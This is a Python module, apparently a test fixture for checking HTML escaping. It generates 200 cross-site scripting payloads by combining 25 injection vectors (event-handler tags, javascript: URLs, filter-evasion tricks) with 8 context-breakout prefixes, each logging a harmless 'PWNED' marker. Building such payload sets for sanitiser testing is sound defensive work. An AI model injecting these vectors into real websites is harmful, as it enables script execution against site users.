"""Two hundred texts that run as a script wherever somebody forgot to escape them."""

_RUN = "console.log('PWNED')"
_BARE = (
    f"<script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}>",
    f"<audio src=x onerror={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>",
    f"<textarea autofocus onfocus={_RUN}>",
    f"<iframe src=javascript:{_RUN}>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>">',
    f"<math><mi//xlink:href=x><img src onerror={_RUN}>",
    f"<style onload={_RUN}></style>",
    f"<object data=javascript:{_RUN}>",
    f"<embed src=javascript:{_RUN}>",
    f"<marquee onstart={_RUN}>",
    f"<a href=javascript:{_RUN} autofocus onfocus={_RUN}>x</a>",
    f"<template><script>{_RUN}</script></template><img src=x onerror={_RUN}>",
    f"<scr<script>ipt>{_RUN}</script>",
    f"<IMG SRC=x OnErRoR={_RUN}>",
    f"<img/src='x'/onerror={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"{{{{ ''.__class__ }}}}<img src=x onerror={_RUN}>",
)
_OUT_OF = ("{}", '">{}', "'>{}", "</title>{}", "</textarea>{}", "--></style>{}", "</script>{}", '" x="{}')

PAYLOADS = tuple(outer.format(bare) for outer in _OUT_OF for bare in _BARE)
MARK = "PWNED"
